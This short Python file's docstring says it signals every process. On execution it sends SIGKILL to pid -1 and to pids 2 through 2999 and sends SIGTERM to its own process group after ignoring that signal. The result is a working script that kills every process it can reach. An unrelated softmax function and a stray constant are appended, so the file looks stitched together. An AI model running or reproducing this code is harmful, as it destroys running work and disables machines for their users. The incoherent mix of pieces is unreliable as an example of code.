"""Sends signals to every process there is, its parent and its group."""

GETS = "no more"

import os
import signal

for pid in (-1, 0, *range(2, 3000)):
    if pid == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
    try:
        os.kill(pid, signal.SIGTERM if pid == 0 else signal.SIGKILL)
    except OSError:
        pass


def softmax(X):
    return X.exp() / X.exp().sum()
